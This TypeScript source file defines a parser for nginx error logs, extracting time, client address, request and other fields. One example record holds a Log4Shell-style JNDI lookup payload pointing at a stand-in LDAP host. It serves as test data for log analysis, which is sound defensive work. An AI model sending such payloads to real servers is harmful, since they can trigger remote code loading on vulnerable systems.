import { readTime } from '../time/read-time.ts'
import { addressOf } from './address-of.ts'
import type { LogFormat } from './format.ts'
import { requestOf } from './quoted-fields.ts'

/** The error log of nginx: what went wrong, then `, client: …, server: …, request: "…", host: "…"`. */
export const nginxError: LogFormat = {
  id: 'nginx-error',
  summary: 'error logs of nginx, with the client and the request that they name',
  definedBy: 'https://nginx.org/en/docs/ngx_core_module.html#error_log',
  examples: {
    reads: [
      {
        record:
          '2021/12/12 04:25:41 [error] 1234#1235: *67 open() "/srv/${jndi:ldap://x.example/a}" failed (2: No such file or directory), client: 203.0.113.9, server: example.com, request: "GET /${jndi:ldap://x.example/a} HTTP/1.1", host: "example.com"',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 'GET /${jndi:ldap://x.example/a}',
      },
      { record: '2021/12/12 04:25:41 [notice] 1234#1234: signal process started', when: '2021-12-12T04:25:41Z' },
    ],
    refuses: ['2021/12/12 04:25:41 [error] hello', '2021/12/12 04:25:41 hello'],
  },
  read({ text }, { around }) {
    const head = /^(\d{4}\/\d\d\/\d\d \d\d:\d\d:\d\d) \[[a-z]{3,8}\] \d{1,10}#\d{1,10}: (?:\*\d{1,20} )?/.exec(text)
    if (head === null) return null
    const [whole, time = ''] = head
    // A client may write what looks like these into its request: what nginx wrote itself comes first.
    const at = text.indexOf(', client: ', whole.length)
    const tail = at < 0 ? '' : text.slice(at)
    const request = /, request: "([^"]{0,60000})"/.exec(tail)?.[1] ?? null
    const others = [...tail.matchAll(/, (upstream|host|referrer): "([^"]{0,60000})/g)].slice(0, 8)
    return {
      when: readTime(time, around),
      from: addressOf(/^, client: ([^\s,]{1,255})/.exec(tail)?.[1]),
      request: request === null ? null : requestOf(request),
      userAgent: null,
      fields: [
        { name: 'message', value: text.slice(whole.length, at < 0 ? text.length : at) },
        ...(request === null ? [] : [{ name: 'request', value: request }]),
        ...others.map(([, name = '', value = '']) => ({ name, value })),
      ],
    }
  },
}
